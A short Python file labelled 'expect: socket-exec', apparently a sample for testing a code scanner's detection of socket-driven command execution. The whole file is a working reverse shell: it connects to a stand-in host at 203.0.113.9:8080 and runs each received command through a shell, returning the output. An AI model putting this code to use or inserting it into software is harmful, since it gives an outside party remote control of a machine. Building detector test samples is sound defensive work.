# expect: socket-exec
import socket
import subprocess


def serve():
    s = socket.socket()
    s.connect(("203.0.113.9", 8080))
    while True:
        cmd = s.recv(1024)
        out = subprocess.check_output(cmd, shell=True)
        s.send(out)
